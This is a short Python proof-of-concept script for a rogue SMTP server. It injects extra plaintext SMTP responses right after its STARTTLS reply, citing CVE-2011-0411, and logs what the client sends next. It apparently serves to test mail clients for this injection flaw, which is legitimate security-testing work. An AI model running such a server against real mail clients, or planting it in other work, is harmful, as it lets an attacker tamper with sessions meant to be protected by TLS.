#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""smtp_inject.py -- a mail server in front of which somebody adds to its words

	smtp_inject.py ADDRESS

What comes behind the 220 to STARTTLS, in the same segment, is meant to be read
as said within TLS (CVE-2011-0411, towards a client). Prints what it hears then.
"""
import socketserver
import sys


class Server(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"220 mx ESMTP\r\n")
        for line in self.rfile:
            if line.startswith(b"STARTTLS"):
                self.wfile.write(b"220 go\r\n250-mx\r\n250 PIPELINING\r\n"
                                 b"250 2.1.0 ok\r\n250 2.1.5 ok\r\n")
                print("then", self.rfile.read(5), flush=True)
                return
            self.wfile.write(b"250-mx\r\n250 STARTTLS\r\n")


socketserver.ThreadingTCPServer.allow_reuse_address = True
with socketserver.ThreadingTCPServer((sys.argv[1], 25), Server) as server:
    server.serve_forever()
